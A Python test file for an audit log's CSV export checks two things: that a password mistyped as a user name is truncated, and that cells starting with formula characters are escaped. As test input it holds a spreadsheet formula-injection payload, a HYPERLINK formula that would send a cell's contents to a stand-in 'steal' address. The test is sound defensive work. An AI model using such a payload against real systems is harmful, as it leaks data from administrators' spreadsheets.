"""The audit report's CSV: what a spreadsheet makes of it, and what it keeps of a typed user name.

A failed sign-in stores what was typed into the user-name box. Opened in a spreadsheet, a name of
=HYPERLINK(...) was a live link in the administrator's sheet; and a password typed into that box by
mistake stayed whole in a table that can never be cleaned."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

import settings as settings_module
from auth.accounts import sign_in_with_password
from components import audit_report
from db.engine import transaction
from db.models import AuditEvent
from tests.factories import NOW

FORMULA = '=HYPERLINK("https://example.invalid/steal?"&A1,"Click for details")'


def _csv_rows(engine) -> list[dict[str, str]]:
    with transaction(engine) as s:
        events = s.scalars(select(AuditEvent).order_by(AuditEvent.id)).all()
        data = audit_report.to_csv(audit_report.to_frame(events))
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_a_typed_user_name_keeps_only_its_first_characters(engine):
    typed = "Winter-Sunrise-2026!"  # a password, typed into the user-name box by mistake
    with transaction(engine) as s:
        sign_in_with_password(s, typed, "whatever", settings_module.load(), NOW)
    with transaction(engine) as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "sign_in_failed")).one()
    assert typed.lower() not in event.actor_name.lower() and "sunrise" not in event.actor_name.lower(), (
        f"the audit trail kept what was typed whole: {event.actor_name!r}"
    )
    assert event.actor_name == "wi… (unknown)", event.actor_name
    assert event.details == {"reason": "unknown account"}


def test_no_cell_of_the_csv_starts_a_formula(engine):
    with transaction(engine) as s:
        sign_in_with_password(s, FORMULA, "x", settings_module.load(), NOW)
        sign_in_with_password(s, "@SUM(1+1)", "x", settings_module.load(), NOW)
        sign_in_with_password(s, "+1-2", "x", settings_module.load(), NOW)
    rows = _csv_rows(engine)
    names = [row["User"] for row in rows]
    assert names and all(not name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names), (
        f"a spreadsheet would run one of these as a formula: {names}"
    )
    assert "'=h… (unknown)" in names, f"the typed name is shown, as text: {names}"


def test_spreadsheet_safe_covers_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert audit_report.spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert audit_report.spreadsheet_safe("nurse") == "nurse", "ordinary text is left alone"
    assert audit_report.spreadsheet_safe(-3) == -3, "a number is a number, not a formula"
